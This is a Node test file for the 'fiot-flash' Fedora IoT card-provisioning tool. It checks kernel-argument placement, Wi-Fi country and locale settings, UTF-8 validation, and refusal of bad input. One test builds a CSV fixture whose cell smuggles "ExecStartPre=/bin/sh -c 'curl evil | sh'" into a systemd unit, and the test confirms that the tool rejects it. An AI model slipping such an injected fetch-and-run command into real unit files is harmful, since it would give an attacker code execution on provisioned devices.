/**
 * Kernel arguments, Wi-Fi country, keyboard and language, as `fiot-flash` writes them: the
 * arguments on the `options` line of the card's boot entry (read with debugfs), never as Ignition
 * kernelArguments, which real Ignition's kargs stage cannot apply without a distribution helper
 * (Fedora IoT has none; Debian's stub shows the failure). The rest is applied by real Ignition
 * into a scratch root. Text that is not UTF-8, and a table cell that would add lines to a unit,
 * are refused before a byte is written.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { copyFileSync, mkdtempSync, readFileSync, readlinkSync, rmSync, writeFileSync } from 'node:fs';
import { spawnSync, type SpawnSyncReturns } from 'node:child_process';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { planForCard, checkProfile } from '../../../shared/provisioning';
import { debugfs, type Span } from '../../helpers/boot-partition';
import { resultLine } from '../../helpers/cli-json';
import { readEnvFileValue } from '../../helpers/device-readers';
import { createLoopDisk } from '../../helpers/loop';
import { provisionFixture } from '../../helpers/provision-fixture';
import { applyWithIgnition, realIgnitionSkipReason } from '../../helpers/real-ignition';
import { commandsSkipReason, loopSkipReason } from '../../helpers/system';

const root = path.resolve(import.meta.dirname, '../../..');
const fixtureTools = commandsSkipReason('debugfs', 'sfdisk', 'mkfs.ext4', 'mkfs.vfat', 'mcopy', 'xz');
const ENTRY = '/loader/entries/ostree-1-fedora-iot.conf';
let dir: string;
let fixture: Awaited<ReturnType<typeof provisionFixture>>;
let boot: Span;

before(async () => {
  dir = mkdtempSync(path.join(os.tmpdir(), 'fiot-boot-args-'));
  if (fixtureTools) return;
  fixture = await provisionFixture({ layout: 'mbr' });
  boot = fixture.partitions.find((p) => p.label === 'boot')!;
});
after(() => rmSync(dir, { recursive: true, force: true }));

function cli(args: string[]): SpawnSyncReturns<string> {
  return spawnSync(process.execPath, [path.join(root, 'bin/fiot-flash.mjs'), ...args], { cwd: dir, encoding: 'utf8', input: '', timeout: 180_000, env: { ...process.env, FIOT_CONFIG_DIR: path.join(dir, 'config') } });
}

/** The CLI with raw bytes in its arguments, as a shell passes `$'\xff\xfe'`. */
function cliWithBytes(script: string): SpawnSyncReturns<string> {
  return spawnSync('sh', ['-c', script, 'sh', process.execPath, path.join(root, 'bin/fiot-flash.mjs')], { cwd: dir, encoding: 'utf8', input: '', timeout: 60_000 });
}

function imageCopy(name: string): string {
  const image = path.join(dir, name);
  copyFileSync(fixture.path, image);
  return image;
}

/** A copy of the image whose boot partition has lost its boot entry. */
function imageWithoutEntry(name: string): string {
  const image = imageCopy(name);
  spawnSync('debugfs', ['-w', '-R', `rm ${ENTRY}`, `${image}?offset=${boot.offset}`], { stdio: 'ignore' });
  assert.doesNotMatch(debugfs(image, boot, `stat ${ENTRY}`), /Inode:/, 'the entry is gone');
  return image;
}

const sha256 = (file: string) => createHash('sha256').update(readFileSync(file)).digest('hex');
const optionsOf = (image: string) => (/^options (.*)$/m.exec(debugfs(image, boot, `cat ${ENTRY}`))?.[1] ?? '').split(' ');

describe('kernel arguments go on the boot entry, not into Ignition', () => {
  it("real Ignition's kargs stage fails on a config that carries kernelArguments (no distribution helper)", { skip: realIgnitionSkipReason() ?? false }, () => {
    const withKargs = JSON.stringify({ ignition: { version: '3.3.0' }, kernelArguments: { shouldExist: ['console=ttyS0,115200'] } });
    assert.throws(() => applyWithIgnition(withKargs, { kargs: true }).dispose(), /ignition kargs exited 1[\s\S]*Ignition kernelArguments is not supported by this Linux distribution/);
    // The product refuses such a config if a person merges one, before anything is written.
    const { problems } = checkProfile({ mergeConfig: withKargs });
    assert.match(problems.map((p) => p.message).join('\n'), /kernelArguments: cannot be applied on Fedora IoT .*--kernel-arg/);
  });

  it('fiot-flash provision writes them on the options line, keeps the image’s own, and the config passes the kargs stage', { skip: fixtureTools ?? realIgnitionSkipReason() ?? false }, () => {
    const image = imageCopy('args.img');
    const imageArgs = optionsOf(image);
    assert.ok(imageArgs.some((arg) => arg.startsWith('ostree=')), `the fixture's entry has ostree's arguments: ${imageArgs.join(' ')}`);
    const run = cli(['provision', image, '--hostname', 'greenhouse', '--kernel-arg', 'console=ttyAMA0,115200', '--kernel-arg', 'quiet',
      '--wifi-country', 'DE', '--keymap', 'de-nodeadkeys', '--locale', 'de_DE.UTF-8', '--timezone', 'Europe/Berlin', '--json']);
    assert.equal(run.status, 0, run.stderr + run.stdout);
    assert.deepEqual(optionsOf(image), [...imageArgs, 'console=ttyAMA0,115200', 'quiet', 'cfg80211.ieee80211_regdom=DE']);

    const configText = debugfs(image, boot, 'cat /ignition/config.ign');
    assert.equal((JSON.parse(configText) as Record<string, unknown>).kernelArguments, undefined, 'no kernelArguments in the card’s config');
    const applied = applyWithIgnition(configText, { kargs: true });
    try {
      assert.match(applied.log, /kargs: kargs passed/);
      assert.equal(readEnvFileValue(path.join(applied.root, 'etc/vconsole.conf'), 'KEYMAP'), 'de-nodeadkeys');
      assert.equal(readEnvFileValue(path.join(applied.root, 'etc/locale.conf'), 'LANG'), 'de_DE.UTF-8');
      assert.equal(readlinkSync(path.join(applied.root, 'etc/localtime')), '/usr/share/zoneinfo/Europe/Berlin');
    } finally {
      applied.dispose();
    }

    // Provisioned again with another country: one regulatory domain, the new one.
    const again = cli(['provision', image, '--hostname', 'greenhouse', '--wifi-country', 'US', '--json']);
    assert.equal(again.status, 0, again.stderr);
    const options = optionsOf(image);
    assert.deepEqual(options.filter((arg) => arg.startsWith('cfg80211.')), ['cfg80211.ieee80211_regdom=US']);
    assert.deepEqual(options.slice(0, imageArgs.length), imageArgs, 'the image’s own arguments stay first and whole');
  });

  it('an image whose boot partition has no boot entry is refused before anything is written', { skip: fixtureTools ?? false }, () => {
    const image = imageWithoutEntry('no-entry.img');
    const before = sha256(image);
    const run = cli(['provision', image, '--hostname', 'greenhouse', '--wifi-country', 'DE', '--json']);
    assert.equal(run.status, 1, run.stderr + run.stdout);
    assert.match(resultLine(run.stdout).error!.message, /no boot entries in \/loader\/entries to carry the kernel arguments \(cfg80211\.ieee80211_regdom=DE\); nothing was written/);
    assert.equal(sha256(image), before, 'the image is unchanged');
  });

  it('flash checks the image for a boot entry before the first byte goes to the card', { skip: loopSkipReason() ?? fixtureTools ?? false }, () => {
    const image = imageWithoutEntry('no-entry-flash.img');
    const card = createLoopDisk(fixture.size);
    try {
      const flash = cli(['flash', image, '--drive', card.device, '--yes', '--hostname', 'greenhouse', '--kernel-arg', 'quiet', '--json']);
      assert.equal(flash.status, 1, flash.stderr + flash.stdout);
      assert.match(resultLine(flash.stdout).error!.message, /no boot entries in \/loader\/entries to carry the kernel arguments \(quiet\)/);
      assert.equal(card.sectorsWritten(), 0, 'not a sector written to the card');
    } finally {
      card.dispose();
    }
  });

  it('the plan carries the arguments for the writer; URL mode refuses them', () => {
    const { profile } = checkProfile({ hostname: 'a', wifiCountry: 'GB', kernelArguments: ['quiet'] });
    const { plan } = planForCard(profile!, 1);
    assert.deepEqual(plan?.mode === 'config' && plan.kernelArguments, ['quiet', 'cfg80211.ieee80211_regdom=GB']);
    const printed = cli(['ignition', '--hostname', 'a', '--wifi-country', 'GB', '--kernel-arg', 'quiet']);
    assert.equal(printed.status, 0, printed.stderr);
    assert.equal((JSON.parse(printed.stdout) as Record<string, unknown>).kernelArguments, undefined, 'stdout is the config alone');
    assert.match(printed.stderr, /Kernel arguments for the card's boot entries: quiet cfg80211\.ieee80211_regdom=GB/);
    const url = checkProfile({ ignitionUrl: 'https://cfg.example/a.ign', wifiCountry: 'GB', keymap: 'gb' });
    assert.match(url.problems.map((p) => p.message).join('\n'), /wifiCountry, keymap would be ignored/);
  });
});

describe('text that is not UTF-8, and table cells that would add lines to a unit', () => {
  it("--wifi-ssid $'\\xff\\xfe' and a passphrase file that is not UTF-8 exit 2, nothing written", { skip: fixtureTools ?? false }, () => {
    const image = imageCopy('utf8.img');
    const before = sha256(image);
    const ssid = cliWithBytes(`"$1" "$2" provision "${image}" --wifi-ssid "$(printf '\\377\\376')" --wifi-security none`);
    assert.equal(ssid.status, 2, ssid.stderr);
    assert.match(ssid.stderr, /--wifi-ssid: is not valid UTF-8 text/);
    writeFileSync(path.join(dir, 'latin1.psk'), Buffer.from('caf\xe9 au lait', 'latin1'));
    const psk = cli(['provision', image, '--wifi-ssid', 'Workshop', '--wifi-psk-file', 'latin1.psk']);
    assert.equal(psk.status, 2, psk.stderr);
    assert.match(psk.stderr, /--wifi-psk-file latin1\.psk: is not UTF-8 text/);
    assert.equal(sha256(image), before, 'the image is unchanged');
    const ok = cliWithBytes(`"$1" "$2" ignition --wifi-ssid "$(printf 'Caf\\303\\251')" --wifi-security none`);
    assert.equal(ok.status, 0, `valid UTF-8 bytes are taken: ${ok.stderr}`);
  });

  it('flash --table: a cell with newlines and ExecStartPre= for a unit is refused naming line and column, the card untouched', { skip: loopSkipReason() ?? fixtureTools ?? false }, () => {
    const profile = path.join(dir, 'unit-profile.json');
    writeFileSync(profile, JSON.stringify({ units: [{ name: 'greet.service', enabled: true, contents: '[Service]\nType=oneshot\nExecStart=/usr/bin/echo {greeting}\n' }] }));
    const table = path.join(dir, 'attack.csv');
    writeFileSync(table, 'hostname,greeting\nok-1,hello\nbad-2,"hi\nExecStartPre=/bin/sh -c \'curl evil | sh\'\n[Install]\nWantedBy=multi-user.target"\n');
    const card = createLoopDisk(fixture.size);
    try {
      const run = cli(['flash', fixture.path, '--drive', card.device, '--yes', '--profile', profile, '--table', table, '--json']);
      assert.equal(run.status, 2, run.stderr + run.stdout);
      assert.match(resultLine(run.stdout).error?.message ?? '', /--table \S*attack\.csv: line 3, column 2 \(greeting\): holds a line break or control character; a value put into unit greet\.service must stay on its line/);
      assert.equal(card.sectorsWritten(), 0, 'not a sector written');
    } finally {
      card.dispose();
    }
  });
});
